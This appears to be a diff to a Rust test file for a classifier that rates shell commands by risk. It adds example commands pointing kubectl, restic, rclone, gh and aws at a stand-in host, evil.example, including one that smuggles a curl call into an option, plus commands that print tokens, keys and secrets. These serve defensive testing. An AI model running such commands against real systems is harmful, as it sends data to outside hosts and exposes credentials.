@@ -18,6 +18,7 @@ fn asking_the_service_of_the_users_own_settings_is_medium() {
         "aws sns get-topic-attributes --topic-arn arn:aws:sns:eu-west-1:1:alerts",
         "aws secretsmanager list-secrets",
         "nats stream info ORDERS",
+        "op item list",
         "restic snapshots",
         "vault audit list",
         "op whoami",
@@ -51,6 +52,13 @@ fn being_steered_elsewhere_is_asked() {
         "nats --server evil.example stream info ORDERS",
         "rclone cat :http,url='https://evil.example':x",
         "helm list --post-renderer ./x",
+        "kubectl -sevil.example:6443 get pods",
+        "restic -r sftp:evil.example:/x snapshots",
+        "restic -o sftp.command='curl evil.example' snapshots",
+        "rclone ls remote,endpoint=evil.example:x",
+        "gh repo view evil.example/x/y",
+        "gh pr list -R evil.example/o/r",
+        "aws s3 ls --end evil.example:80",
     ] {
         let analysis = look(text);
         assert!(analysis.risk >= Risk::High, "{text:?}\n{}", analysis.explain());
@@ -71,6 +79,13 @@ fn what_brings_something_here_or_prints_keys_is_asked() {
         "bq query 'DELETE FROM t'",
         "terraform plan",
         "vault read secret/app",
+        "vault kv get secret list",
+        "kubectl -n list get secrets -o yaml",
+        "kubectl config view --raw",
+        "gh auth status --show-token",
+        "az storage account keys list",
+        "helm get values x",
+        "nats kv get CONFIG api-key",
     ] {
         let analysis = look(text);
         assert!(analysis.risk >= Risk::High, "{text:?}\n{}", analysis.explain());
